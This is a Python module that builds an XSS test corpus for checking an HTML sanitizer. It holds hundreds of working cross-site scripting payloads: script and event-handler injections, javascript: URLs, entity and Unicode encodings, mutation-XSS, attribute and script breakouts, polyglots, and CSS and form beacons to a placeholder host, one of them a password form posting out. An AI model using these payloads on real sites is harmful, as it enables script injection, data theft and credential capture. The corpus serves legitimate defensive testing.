"""Our XSS corpus: each vector reports itself by its numeric id when it runs.

A vector "fires" when the browser shows a dialog whose message is its id (`alert(1234)`, `confirm`,
`prompt`, alert`1234`) or requests a beacon address holding its id (`/__xss__/1234`, on any host;
BEACON_HOST is answered by the harness, never by the network). Ids are numbers so that a payload
needs no quotes, which keeps encoded and unquoted forms meaningful.

`context` says where the attacker's text lands when the vector is built for it: "html" (element
content), "attr_dq" / "attr_sq" / "attr_uq" (inside a double-, single- or un-quoted attribute
value), "script" (inside a double-quoted JavaScript string), "script_tpl" (inside a JavaScript
template literal). The calibration page puts each vector raw into its context; the app's sinks get
every vector whatever its context, since an attacker does not choose politely.

`raw_blocker` names why a vector cannot fire in Chromium even inserted raw (a legacy browser
feature, a client-side template engine that our pages do not have, a sanitizer-only mutation...):
such vectors stay in the corpus because the sanitizer must still neutralise them.
"""

import base64
from dataclasses import dataclass

BEACON_HOST = "beacon.invalid"
BEACON = f"http://{BEACON_HOST}/__xss__/"
FIRST_ID = 1000


@dataclass(frozen=True)
class Vector:
    id: int
    family: str
    payload: str
    context: str = "html"
    interaction: bool = False  # fires only on the harness's click/hover/focus sweep
    raw_blocker: str = ""


def js_forms(n: int) -> list[str]:
    """Ways to run code that reports `n`: dialogs, obfuscated calls, and beacon requests."""
    charcodes = ",".join(str(ord(c)) for c in f"alert({n})")
    b64 = base64.b64encode(f"alert({n})".encode()).decode()
    return [
        f"alert({n})",
        f"confirm({n})",
        f"prompt({n})",
        f"alert`{n}`",
        f"top['al'+'ert']({n})",
        f"window['\\x61lert']({n})",
        f"\\u0061lert({n})",
        f"eval(atob('{b64}'))",
        f"eval(String.fromCharCode({charcodes}))",
        f"[].constructor.constructor('alert({n})')()",
        f"Function('alert({n})')()",
        f"fetch('{BEACON}{n}')",
        f"new Image().src='{BEACON}{n}'",
        f"navigator.sendBeacon('{BEACON}{n}')",
        f"(alert)({n})",
        f"self[atob('YWxlcnQ=')]({n})",
    ]


def entities(text: str, style: str) -> str:
    """`text` as HTML character references: decimal, hex, zero-padded without semicolons."""
    forms = {
        "dec": lambda c: f"&#{ord(c)};",
        "hex": lambda c: f"&#x{ord(c):x};",
        "pad": lambda c: f"&#{ord(c):07d}",
        "hexnosemi": lambda c: f"&#x{ord(c):X}",
    }
    return "".join(forms[style](c) for c in text)


def _script_tags(_n) -> list[tuple[str, str]]:
    return [
        ("<script>{a}</script>", ""),
        ("<ScRiPt>{a}</sCrIpT>", ""),
        ("<script type=text/javascript>{a}</script>", ""),
        ("<script type=module>{a}</script>", ""),
        ("<script>{a}//", "an unclosed script never runs"),
        ("<script/x>{a}</script>", ""),
        ("<script\n>{a}</script\n>", ""),
        ("<<script>{a}//<</script>", ""),
        ('<script src="data:,{a}"></script>', ""),
        ('<script src="data:text/javascript;base64,{b64}"></script>', ""),
        ('<script src="{beacon}.js"></script>', ""),
        ("<script>/*</script>*/{a}</script>", "fires only where a filter drops the first end tag"),
        ("<script>setTimeout('{a}',0)</script>", ""),
        ("<script>eval('\\x61lert({n})')</script>", ""),
        ("<svg><script>{a}</script></svg>", ""),
        ("<svg><script>{a}<!--</script></svg>", "the SVG comment swallows the end tag"),
        ('<svg><script href="data:,{a}" /></svg>', ""),
        ('<svg><script xlink:href="data:,{a}"></script></svg>', ""),
        ("<svg><script>&#97;lert({n})</script></svg>", ""),
        ("<scr<script>ipt>{a}</scr</script>ipt>", "fires only where a filter deletes the inner tag"),
        ("<script>window.onload=function(){{{a}}}</script>", ""),
        ("<script>document.write('<img src=x onerror={a}>')</script>", ""),
        ("<script>{a}</script><!--", ""),
        ("<div><script>{a}</script></div>", ""),
        ("<p><script>{a}</script>", ""),
    ]


def _handlers(_n) -> list[tuple[str, str]]:
    return [
        ("<img src=x onerror={a}>", ""),
        ('<img src=x onerror="{a}">', ""),
        ('<img/src="x"/onerror={a}>', ""),
        ("<IMG SRC=x ONERROR={a}>", ""),
        ("<img src=x oNeRrOr={a}>", ""),
        ("<img src onerror={a}>", ""),
        ('<img src="x:x" onerror="{a}">', ""),
        ("<img src=x onerror  =  {a}>", ""),
        ("<img src=x onerror=\n{a}>", ""),
        ("<img src=x onerror=javascript:{a}>", ""),
        ("<image src=x onerror={a}>", ""),
        ("<img srcset=x onerror={a}>", ""),
        ("<picture><source srcset=x><img onerror={a}></picture>", ""),
        ("<input type=image src=x onerror={a}>", ""),
        ("<svg onload={a}>", ""),
        ("<svg/onload={a}>", ""),
        ("<svg\tonload={a}>", ""),
        ("<SVG ONLOAD={a}>", ""),
        ("<svg onload={a}//", ""),
        ("<svg><image href=x onerror={a} /></svg>", ""),
        ("<svg><animate onbegin={a} attributeName=x dur=1s>", ""),
        ("<svg><set onbegin={a} attributeName=x to=1>", ""),
        ("<svg><foreignObject><img src=x onerror={a}></foreignObject></svg>", ""),
        ("<body onload={a}>", ""),
        ("<body onpageshow={a}>", ""),
        ("<details open ontoggle={a}>", ""),
        ("<details/open/ontoggle={a}>", ""),
        ("<details ontoggle={a} open><summary>x</summary></details>", ""),
        ("<video src=x onerror={a}></video>", ""),
        ("<video><source onerror={a}></video>", ""),
        ("<audio src=x onerror={a}></audio>", ""),
        ("<audio><source src=x onerror={a}></audio>", ""),
        ("<input autofocus onfocus={a}>", ""),
        ("<input onfocus={a} autofocus>", ""),
        ("<textarea autofocus onfocus={a}></textarea>", ""),
        ("<select autofocus onfocus={a}></select>", ""),
        ("<button autofocus onfocus={a}>x</button>", ""),
        ("<a href=# autofocus onfocus={a}>x</a>", ""),
        ("<div tabindex=1 autofocus onfocus={a}>x</div>", ""),
        ("<div contenteditable autofocus onfocusin={a}>x</div>", ""),
        ("<marquee onstart={a}>x</marquee>", "Chromium fires no marquee events"),
        ("<iframe onload={a}></iframe>", ""),
        ("<iframe src=x onload={a}></iframe>", ""),
        ("<object data=x onerror={a}></object>", ""),
        ("<style onload={a}></style>", ""),
        ("<link rel=stylesheet href=x onerror={a}>", ""),
        ("<style>@keyframes x{{}}</style><p style=animation-name:x onanimationstart={a}>x</p>", ""),
        ("<table background=x onerror={a}><tr><td>x</td></tr></table>", "no-error-event"),
        ("<a onmouseover={a}>x</a>", "interaction"),
        ("<div onclick={a}>x</div>", "interaction"),
        ("<p onpointerover={a}>x</p>", "interaction"),
        ("<span onmouseenter={a}>x</span>", "interaction"),
        ("<b onmousedown={a}>x</b>", "interaction"),
        ("<i ondblclick={a}>x</i>", "no-dblclick"),
        ("<h2 onclick={a}>x</h2>", "interaction"),
        ("<td onclick={a}>x</td>", "the parser drops a td outside a table"),
        ("<table><tr><td onclick={a}>x</td></tr></table>", "interaction"),
        ("<ul><li onclick={a}>x</li></ul>", "interaction"),
        ("<blockquote onmouseover={a}>x</blockquote>", "interaction"),
        ("<figure onclick={a}><figcaption>x</figcaption></figure>", "interaction"),
        ("<strong onfocus={a} tabindex=0 autofocus>x</strong>", ""),
        ("<em onclick={a}>x</em>", "interaction"),
        ("<sup onmouseover={a}>x</sup>", "interaction"),
        ("<svg><a onclick={a}><text y=20>x</text></a></svg>", "interaction"),
        ("<form onsubmit={a}><button>x</button></form>", "interaction"),
        ("<form><button formaction=x onclick={a}>x</button></form>", "interaction"),
        ("<svg><rect width=10 height=10 onmouseover={a} /></svg>", "interaction"),
        ("<math><mi onclick={a}>x</mi></math>", "interaction"),
    ]


URL_FORMS = [
    ("javascript:{a}", ""),
    ("JaVaScRiPt:{a}", ""),
    ("javascript&colon;{a}", ""),
    ("&#106;avascript:{a}", ""),
    ("&#x6A;avascript:{a}", ""),
    ("{jsent_pad}:{a}", ""),
    ("java\tscript:{a}", ""),
    ("java&#9;script:{a}", ""),
    ("java&Tab;script:{a}", ""),
    ("java&#x0A;script:{a}", ""),
    (" \x01javascript:{a}", ""),
    ("javascript://%0a{a}", ""),
    ("javascript:%61lert({n})", ""),
    ("javascript:{a_ent}", ""),
    ("vbscript:msgbox({n})", "vbscript: does not exist in Chromium"),
    ("data:text/html,<script>fetch('{beacon}')</script>", ""),
    ("data:text/html;base64,{data_b64}", ""),
    ("data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='fetch(`{beacon}`)'/>", ""),
]
URL_SINKS = [
    ('<iframe src="{url}"></iframe>', ""),
    ('<a href="{url}">x</a>', "interaction"),
    ('<form action="{url}"><input type=submit></form>', "interaction"),
    ('<svg><a xlink:href="{url}"><text y=20>x</text></a></svg>', "interaction"),
]
EXTRA_URL_SINKS = [
    ('<form><button formaction="{url}">x</button></form>', "interaction"),
    ('<embed src="{url}">', "Chromium refuses javascript: in embed and object"),
    ('<object data="{url}"></object>', "Chromium refuses javascript: in embed and object"),
    ('<svg><a href="{url}"><text y=20>x</text></a></svg>', "interaction"),
    ('<math><mi href="{url}">x</mi></math>', "MathML links are not supported by Chromium"),
    ('<a href="{url}"><img src=x></a>', "interaction"),
    ('<area href="{url}">', "interaction"),
    ('<iframe src=" {url} "></iframe>', ""),
    ('<isindex action="{url}" type=submit>', "isindex is gone from HTML"),
    ('<input type=submit formaction="{url}" form=f><form id=f></form>', "interaction"),
]


def _url_vector(n, url_form: str, sink: str) -> str:
    a = f"alert({n})"
    url = url_form.format(
        a=a,
        n=n,
        beacon=f"{BEACON}{n}",
        jsent_pad=entities("javascript", "pad"),
        a_ent=entities(a, "dec"),
        data_b64=base64.b64encode(f"<script>fetch('{BEACON}{n}')</script>".encode()).decode(),
    )
    return sink.replace("{url}", url)


def _mathml_svg(_n) -> list[tuple[str, str]]:
    return [
        (
            "<svg><animate attributeName=href values=javascript:{a} /><a><text y=20>x</text></a></svg>",
            "smil-js",
        ),
        (
            '<svg><a><animate attributeName=href to="javascript:{a}" /><text y=20>x</text></a></svg>',
            "smil-js",
        ),
        ("<svg><set attributeName=onmouseover to={a} /></svg>", "no-event"),
        ("<svg><foreignObject><iframe onload={a}></iframe></foreignObject></svg>", ""),
        ("<svg><desc><img src=x onerror={a}></desc></svg>", ""),
        ("<svg><title><img src=x onerror={a}></title></svg>", ""),
        ("<svg><style><img src=x onerror={a}></style></svg>", ""),
        (
            "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'>"
            "<image href='1' onerror='{a}' /></svg>#x\" /></svg>",
            "data: in <use> is blocked by Chromium",
        ),
        ("<svg><discard onbegin={a} />", "Chromium does not implement SVG discard"),
        ("<math><mtext><img src=x onerror={a}></mtext></math>", ""),
        ("<math><mi><img src=x onerror={a}></mi></math>", ""),
        ("<math><annotation-xml encoding=text/html><img src=x onerror={a}></annotation-xml></math>", ""),
        (
            "<math><maction actiontype=statusline xlink:href=javascript:{a}>x</maction></math>",
            "MathML links are not supported by Chromium",
        ),
        ("<math><style><img src=x onerror={a}></style></math>", ""),
        ("<svg><p><style><img src=x onerror={a}></style></p></svg>", "style becomes raw text in HTML"),
        ("<svg><![CDATA[><img src=x onerror={a}>]]></svg>", "CDATA is text inside SVG"),
        ("<math><![CDATA[><img src=x onerror={a}>]]></math>", "CDATA is text inside MathML"),
        (
            '<svg xmlns="http://www.w3.org/2000/svg"><g><a xlink:href="javascript:{a}">'
            "<rect width=9 height=9 /></a></g></svg>",
            "interaction",
        ),
        ("<svg><feImage href=x onerror={a} /></svg>", "no-error-event"),
        (
            "<svg><handler xmlns:ev=http://www.w3.org/2001/xml-events ev:event=load>{a}</handler></svg>",
            "SVG handler elements are not supported by Chromium",
        ),
    ]


def _mutation(_n) -> list[tuple[str, str]]:
    return [
        ('<noscript><p title="</noscript><img src=x onerror={a}>"></noscript>', ""),
        ("<math><mtext><table><mglyph><style><img src=x onerror={a}>", "mutation"),
        ('<svg></p><style><a id="</style><img src=1 onerror={a}>">', ""),
        (
            "<math><mtext><option><FAKEFAKE><option></option><mglyph><svg><mtext><style>"
            "<a title=\"</style><img src='#' onerror='{a}'>\">",
            "mutation",
        ),
        ("<form><math><mtext></form><form><mglyph><style></math><img src onerror={a}>", "mutation"),
        ("<!--><img src=x onerror={a}>-->", ""),
        ("<!---><img src=x onerror={a}>-->", ""),
        ("<!-- --!><img src=x onerror={a}>-->", ""),
        ("<![CDATA[><img src=x onerror={a}>]]>", ""),
        ("<?xml ><img src=x onerror={a}>?>", ""),
        ('</x foo="><img src=x onerror={a}>">', "end-tag attributes swallow the img"),
        ("<template><img src=x onerror={a}></template>", "template content is inert until cloned"),
        ("<template><script>{a}</script></template>", "template content is inert until cloned"),
        ('<xmp><p title="</xmp><img src=x onerror={a}>"></xmp>', ""),
        ('<noembed><p title="</noembed><img src=x onerror={a}>"></noembed>', ""),
        ('<noframes><p title="</noframes><img src=x onerror={a}>"></noframes>', ""),
        ('<iframe><p title="</iframe><img src=x onerror={a}>"></iframe>', ""),
        ('<textarea><p title="</textarea><img src=x onerror={a}>"></textarea>', ""),
        ('<title><p title="</title><img src=x onerror={a}>"></title>', ""),
        ('<style><p title="</style><img src=x onerror={a}>"></style>', ""),
        ("</textarea><img src=x onerror={a}>", ""),
        ("</title><img src=x onerror={a}>", ""),
        ("</style><img src=x onerror={a}>", ""),
        ("</noscript><img src=x onerror={a}>", ""),
        ('<a href="</a><img src=x onerror={a}>">x</a>', "the img stays inside the attribute"),
        ("<p><svg><style>&lt;img src=x onerror={a}&gt;</style></svg></p>", "entities stay text in SVG style"),
        ("<table><td><math><mtext><img src=x onerror={a}></mtext></math></td></table>", ""),
        ("<select><template><img src=x onerror={a}></template></select>", "template content is inert"),
        ('<div id="x"><img src=x onerror={a} x="</div>"></div>', ""),
        ('<img src="x` `<script>{a}</script>"` `>', "the script stays inside the attribute"),
    ]


def _breakouts(n) -> list[tuple[str, str, str]]:
    """(payload, context, blocker): text that leaves the attribute or script it lands in."""
    a = f"alert({n})"
    out = []
    for quote, context in (('"', "attr_dq"), ("'", "attr_sq")):
        q = quote
        out += [
            (f"{q}><svg onload={a}>", context, ""),
            (f"{q}><script>{a}</script>", context, ""),
            (f"{q}/><img src=x onerror={a}>", context, ""),
            (f"{q} autofocus onfocus={a} x={q}", context, ""),
            (f"{q}autofocus onfocus={a} x={q}", context, ""),
            (f"{q} onfocus={a} autofocus {q}", context, ""),
            (f"{q} onmouseover={a} x={q}", context, "interaction"),
            (f"{q}><iframe srcdoc=&lt;script&gt;parent.{a}&lt;/script&gt;>", context, ""),
            (f"{q}><details open ontoggle={a}>", context, ""),
            (f"{q}></a></p></div><img src=x onerror={a}>", context, ""),
        ]
    out += [
        (f"x onfocus={a} autofocus", "attr_uq", ""),
        (f"x autofocus/onfocus={a}", "attr_uq", ""),
        (f"x><svg onload={a}>", "attr_uq", ""),
        (f"x\tonfocus={a}\tautofocus", "attr_uq", ""),
        (f"x onmouseover={a}", "attr_uq", "interaction"),
        (f"</script><script>{a}</script>", "script", ""),
        (f"</script><img src=x onerror={a}>", "script", ""),
        (f'";{a}//', "script", ""),
        (f'"-{a}-"', "script", ""),
        (f'\\";{a}//', "script", "fires only where quotes are escaped but backslashes are not"),
        (f"</SCRIPT ><script>{a}</script>", "script", ""),
        ("${" + a + "}", "script_tpl", ""),
        ("`;" + a + "//", "script_tpl", ""),
        ("{{" + f"constructor.constructor('{a}')()" + "}}", "html", "needs a client-side template engine"),
        ("{{$on.constructor('" + a + "')()}}", "html", "needs a client-side template engine"),
        ("#{" + a + "}", "script_tpl", "Ruby interpolation: not JavaScript"),
        (f"'-{a}-'", "script", "a single-quoted JavaScript string"),
        (f"\\u0022;{a}//", "script", "escapes are not decoded before the string ends"),
    ]
    return out


def _encodings(n) -> list[tuple[str, str]]:
    a = f"alert({n})"
    return [
        (f'<img src=x onerror="{entities(a, "dec")}">', ""),
        (f'<img src=x onerror="{entities(a, "hex")}">', ""),
        (f'<img src=x onerror="{entities(a, "pad")}">', ""),
        (f'<img src=x onerror="{entities(a, "hexnosemi")}">', ""),
        (f"<img src=x onerror=alert&lpar;{n}&rpar;>", ""),
        (f'<svg onload="{entities(a, "dec")}">', ""),
        (f'<details open ontoggle="{entities(a, "hex")}">', ""),
        (f"<img src=x onerror=\\u0061\\u006c\\u0065\\u0072\\u0074({n})>", ""),
        (f"<img src=x onerror=\\u{{61}}lert({n})>", ""),
        (f"<img src=x onerror=eval('\\141\\154\\145\\162\\164({n})')>", ""),
        (f"<img src=x onerror=eval(decodeURIComponent('%61%6c%65%72%74%28{n}%29'))>", ""),
        (f"<img src=x onerror=eval(unescape('%61lert({n})'))>", ""),
        (f"+ADw-script+AD4-alert({n})+ADw-/script+AD4-", "UTF-7 is not decoded by Chromium"),
        (f"%3Cscript%3Ealert({n})%3C/script%3E", "percent-encoding is not decoded in HTML"),
        (f"&lt;script&gt;alert({n})&lt;/script&gt;", "escaped text stays text"),
        (f"<img src=x onerror=alert({n})\x00>", "NUL becomes U+FFFD inside the script"),
        (f"<scr\x00ipt>alert({n})</scr\x00ipt>", "NUL becomes U+FFFD inside the tag name"),
        (f"<img src=x o\x00nerror=alert({n})>", "NUL becomes U+FFFD inside the attribute name"),
        (f'<a href="java\x00script:alert({n})">x</a>', "NUL becomes U+FFFD inside the URL"),
        (f"<img src=x onerror=alert({n}) \x00>", ""),
        (f"\x00<img src=x onerror=alert({n})>", ""),
        (f"<img src=x onerror=alert({n})\u2028>", ""),
        (f"<img src=x onerror=alert({n})\u00a0>", ""),
        (f"\ufeff<svg onload=alert({n})>", ""),
        (f"<svg onload=alert&#40;{n}&#41;>", ""),
        (f"<svg onload=alert&#x28;{n}&#x29;>", ""),
        (f'<svg onload="alert&#40 {n}&#41">', ""),
        (f'<a href="&#x26;#x6A;avascript:alert({n})">x</a>', "a double-encoded entity stays literal"),
        (
            f"<iframe src=\"javascript:'&#x3C;script&#x3E;parent.alert({n})&#x3C;/script&#x3E;'\"></iframe>",
            "",
        ),
        (f'<img src=x onerror="&#x61;&#x6C;&#x65;&#x72;&#x74;&#x28;{n}&#x29;">', ""),
    ]


def _css(n) -> list[tuple[str, str]]:
    b = f"{BEACON}{n}"
    a = f"alert({n})"
    return [
        (f'<p style="background-image:url({b})">x</p>', ""),
        (f'<p style="text-align:center;background:url({b})">x</p>', ""),
        (f"<p style=\"text-align:left;background:url('{b}')\">x</p>", ""),
        (f'<div style="list-style-image:url({b})"><li>x</li></div>', ""),
        (f'<p style="text-align:center;content:url({b})">x</p>', ""),
        (f"<style>p{{background:url({b})}}</style>", ""),
        (f"<style>@import '{b}';</style>", ""),
        (f"<style>@import url({b});</style>", ""),
        (f'<link rel=stylesheet href="{b}">', ""),
        (f'<p style="text-align:center;width:expression({a})">x</p>', "CSS expressions were IE-only"),
        (f"<p style=\"background:url('javascript:{a}')\">x</p>", "CSS javascript: URLs were IE-only"),
        (f"<style>*{{x:expression({a})}}</style>", "CSS expressions were IE-only"),
        (f'<p style="-moz-binding:url({b})">x</p>', "XBL was Firefox-only"),
        (f'<p style="behavior:url({b})">x</p>', "behaviors were IE-only"),
        (
            f'<p style="text-align:center\\;background:url({b})">x</p>',
            "an escaped semicolon keeps one declaration",
        ),
        (f'<p style="text-align:center;/**/background:url({b})">x</p>', ""),
        (f'<p style="text-align:center;bac\\kground:url({b})">x</p>', ""),
        (f'<p style="text-align:center;background:u\\rl({b})">x</p>', ""),
    ]


def _frames_and_navigation(n) -> list[tuple[str, str]]:
    a = f"alert({n})"
    b = f"{BEACON}{n}"
    return [
        (f'<iframe srcdoc="<script>parent.{a}</script>"></iframe>', ""),
        (f'<iframe srcdoc="&lt;img src=x onerror=parent.{a}&gt;"></iframe>', ""),
        (f'<iframe srcdoc="&#60;script&#62;parent.{a}&#60;/script&#62;"></iframe>', ""),
        (f"<iframe srcdoc='<svg onload=parent.{a}>'></iframe>", ""),
        (f"<iframe srcdoc='<iframe srcdoc=\"<script>top.{a}</script>\"></iframe>'></iframe>", ""),
        (f'<iframe srcdoc="<meta http-equiv=refresh content=0;url={b}>"></iframe>', ""),
        (f'<meta http-equiv="refresh" content="0;url={b}">', ""),
        (f"<meta http-equiv=refresh content=\"0; URL='{b}'\">", ""),
        (
            f'<meta http-equiv="refresh" content="0;url=javascript:{a}">',
            "Chromium refuses javascript: refresh",
        ),
        (
            f'<meta http-equiv="refresh" content="0;url=data:text/html,<script>{a}</script>">',
            "Chromium refuses top-level data: navigation",
        ),
        (f'<base href="{b}/"><img src=x>', ""),
        (f'<base href="{b}/"><iframe src=x></iframe>', ""),
        (f'<form action="{b}"><input type=submit></form>', "interaction"),
        (
            f'<form method=post action="{b}"><input name=password type=password><button>x</button></form>',
            "interaction",
        ),
        (f'<form><button formaction="{b}">x</button></form>', "interaction"),
        (f'<input type=image src=x formaction="{b}" form=f><form id=f></form>', "interaction"),
        (f'<embed src="{b}">', ""),
        (f'<object data="{b}"></object>', ""),
        (f'<iframe src="{b}"></iframe>', ""),
        (f'<frameset><frame src="{b}"></frameset>', "frameset is ignored inside a body"),
        (f'<video poster="{b}"></video>', ""),
        (f'<audio src="{b}"></audio>', ""),
        (f'<video><track src="{b}" default></video>', ""),
        (f'<link rel=prefetch href="{b}">', ""),
        (f'<link rel=preload as=script href="{b}">', ""),
        (f'<svg><image href="{b}" /></svg>', ""),
        (f'<svg><use href="{b}#x" /></svg>', ""),
        (f'<table background="{b}"><tr><td>x</td></tr></table>', ""),
        (f'<body background="{b}">', ""),
        (f'<a href="{b}" ping="{b}">x</a>', "the sweep never follows an ordinary link"),
    ]


def _polyglots(n) -> list[tuple[str, str]]:
    a = f"alert({n})"
    return [
        (
            "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=" + a + " )//%0D%0A%0d%0a//</stYle/</titLe/"
            "</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=" + a + "//>\\x3e",
            "",
        ),
        (
            "javascript:\"/*'/*`/*--></noscript></title></textarea></style></template></noembed></script>"
            '<html " onmouseover=/*&lt;svg/*/onload=' + a + "//>",
            "",
        ),
        ("'\"><img src=x onerror=" + a + ">", ""),
        ("'\"--></style></script><script>" + a + "</script>", ""),
        ("\"'><svg/onload=" + a + "><!--", ""),
        ('-->\'"/></sCript><deTailS open x=">" ontoggle=(' + a + ")>", ""),
    ]


def _payload_forms() -> list[tuple[str, str]]:
    """Auto-firing templates crossed with every way of calling back (js_forms)."""
    return [
        ('<img src=x onerror="{js}">', ""),
        ('<svg onload="{js}">', ""),
        ('<details open ontoggle="{js}">', ""),
        ('<input autofocus onfocus="{js}">', ""),
        ("<script>{js}</script>", ""),
    ]


# Builders whose entries are templates with {a}, {n}, {beacon}, {b64} still to fill in.
TEMPLATE_BUILDERS = ((_script_tags, "script tag"), (_handlers, "event handler"), (_mathml_svg, "svg/mathml"))
TEMPLATE_BUILDERS += ((_mutation, "mutation"),)
# Builders whose entries are final for the id they are called with.
FINAL_BUILDERS = ((_encodings, "encoding"), (_css, "css"), (_frames_and_navigation, "frames/navigation"))
FINAL_BUILDERS += ((_polyglots, "polyglot"),)


def fill(template: str, n: int) -> str:
    a = f"alert({n})"
    return template.format(a=a, n=n, beacon=f"{BEACON}{n}", b64=base64.b64encode(a.encode()).decode())


def build_corpus() -> list[Vector]:
    vectors: list[Vector] = []

    def next_id() -> int:
        return FIRST_ID + len(vectors)

    def add(family: str, payload: str, blocker: str, context: str = "html") -> None:
        interaction = blocker == "interaction"
        blocker = "" if interaction else _BLOCKERS.get(blocker, blocker)
        vectors.append(Vector(next_id(), family, payload, context, interaction, blocker))

    for builder, family in TEMPLATE_BUILDERS:
        for template, blocker in builder(0):
            add(family, fill(template, next_id()), blocker)
    for builder, family in FINAL_BUILDERS:
        for index in range(len(builder(0))):
            payload, blocker = builder(next_id())[index]
            add(family, payload, blocker)
    for url_form, url_blocker in URL_FORMS:
        for sink, sink_blocker in URL_SINKS:
            # A form sent to a data: URL is caught by the sweep as a hijacked form; links are refused.
            top_level_data = url_form.startswith("data:") and not sink.startswith(("<iframe", "<form"))
            blocker = "Chromium refuses top-level data: navigation" if top_level_data else url_blocker
            add("url scheme", _url_vector(next_id(), url_form, sink), blocker or sink_blocker)
    for sink, sink_blocker in EXTRA_URL_SINKS:
        add("url scheme", _url_vector(next_id(), "javascript:{a}", sink), sink_blocker)
    for index in range(len(_breakouts(0))):
        payload, context, blocker = _breakouts(next_id())[index]
        add("breakout", payload, blocker, context)
    for template, blocker in _payload_forms():
        for index in range(len(js_forms(0))):
            add("payload form", template.replace("{js}", js_forms(next_id())[index]), blocker)
    return vectors


_BLOCKERS = {
    "no-error-event": "Chromium fires no error event there",
    "no-dblclick": "the sweep does not double-click",
    "no-event": "an attribute set by SMIL is not an event handler",
    "mutation": "fires only once a sanitizer's output is parsed again (mutation XSS)",
    "smil-js": "Chromium refuses javascript: URLs set by SMIL animation",
}

CORPUS = build_corpus()
BY_ID = {vector.id: vector for vector in CORPUS}
